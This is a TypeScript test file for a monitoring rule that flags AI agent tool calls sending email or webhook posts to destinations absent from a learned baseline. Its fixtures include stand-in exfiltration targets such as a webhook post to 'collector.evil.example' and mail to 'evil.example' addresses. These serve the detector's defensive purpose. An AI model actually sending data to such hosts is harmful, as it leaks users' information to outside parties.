import { describe, expect, it } from 'vitest';
import { resolveDetectionConfig } from '../config.js';
import { detectRun } from '../detect-run.js';
import { makeRun, makeStep, toolStep, trainBaseline } from '../steps.fixtures.js';
import { destinationNew } from './destination-new.js';

const mail = (to: string) => toolStep('send_email', 'external', { to, subject: 'Invoice', body: 'Attached.' });
const post = (url: string) => toolStep('post_webhook', 'irreversible', { url, payload: { ok: true } });
const baseline = trainBaseline(25, (i) =>
  makeRun([mail(i % 2 ? 'billing@acme.example' : '[email:7f3a9c1b]'), post('https://hooks.acme.example/in')]),
);
const detect = (steps: Parameters<typeof makeRun>[0], config = resolveDetectionConfig()) =>
  detectRun(makeRun(steps), baseline, config, { rules: [destinationNew] });

describe('destination.new', () => {
  it('flags a mail domain, a pseudonymised recipient (when enabled) and a webhook host never used before', () => {
    const tokens = resolveDetectionConfig({ destination: { recipientTokens: true } });
    const found = detect(
      [mail('ceo@rival.example, [email:00aa11bb]'), post('https://collector.evil.example/x')],
      tokens,
    );
    expect(found.map((f) => [f.details?.destination, f.severity])).toEqual([
      ['collector.evil.example', 'high'],
      ['[email:00aa11bb]', 'medium'],
      ['rival.example', 'medium'],
    ]);
    const recipients = detect([mail('[email:00aa11bb]')], tokens);
    expect(recipients[0]?.evidence.slice(recipients[0].evidenceStart, recipients[0].evidenceEnd)).toBe(
      '[email:00aa11bb]',
    );
    // By default a new customer is not a new destination.
    expect(detect([mail('[email:00aa11bb]')])).toEqual([]);
  });

  it('reads destinations from common argument names, declared ones, and domains kept in tokens', () => {
    const invite = (args: Record<string, unknown>, attributes: Record<string, string> = {}) =>
      toolStep('invite', 'external', args, { attributes });
    const trained = trainBaseline(25, () =>
      makeRun([invite({ user_email: '[email:1a2b3c4d@acme.example]', participants: ['ops@acme.example'] })]),
    );
    const found = detectRun(
      makeRun([
        invite({ user_email: '[email:9f8e7d6c@rival.example]', participants: ['ops@acme.example', 'x@evil.example'] }),
        invite({ billing_contact: 'ap@evil-billing.example' }, { 'casefile.tool.destinations': '["billing_contact"]' }),
      ]),
      trained,
      resolveDetectionConfig(),
      { rules: [destinationNew] },
    );
    expect(found.map((f) => f.details?.destination).sort()).toEqual([
      'evil-billing.example',
      'evil.example',
      'rival.example',
    ]);
  });

  it('leaves destinations the run itself supplied to provenance: typed by the user, looked up, or read in content', () => {
    const lookup = makeStep({
      kind: 'tool',
      toolName: 'crm_lookup',
      toolRisk: 'read',
      contentTrust: 'trusted',
      toolResult: JSON.stringify({ email: 'cfo@newco.example' }),
    });
    const page = makeStep({
      kind: 'tool',
      toolName: 'fetch',
      toolRisk: 'read',
      toolResult: '"Write to press@media.example"',
    });
    const found = detectRun(
      makeRun([lookup, page, mail('cfo@newco.example'), mail('press@media.example'), mail('legal@firm.example')], {
        runInput: 'Send the invoice to legal@firm.example as well.',
      }),
      baseline,
      resolveDetectionConfig(),
      { rules: [destinationNew] },
    );
    expect(found).toEqual([]);
  });

  it('stays quiet for known destinations, allow-listed ones, and before the tool has enough history', () => {
    expect(
      detect([mail('accounts@acme.example'), mail('[email:7f3a9c1b]'), post('https://hooks.acme.example/in?x=1')]),
    ).toEqual([]);
    const cfg = resolveDetectionConfig({ destination: { allow: { post_webhook: ['*.partner.example'] } } });
    expect(detect([post('https://eu.partner.example/hook')], cfg)).toEqual([]);
    const young = trainBaseline(4, () => makeRun([mail('billing@acme.example')]));
    expect(
      detectRun(makeRun([mail('x@new.example')]), young, resolveDetectionConfig(), { rules: [destinationNew] }),
    ).toEqual([]);
  });
});
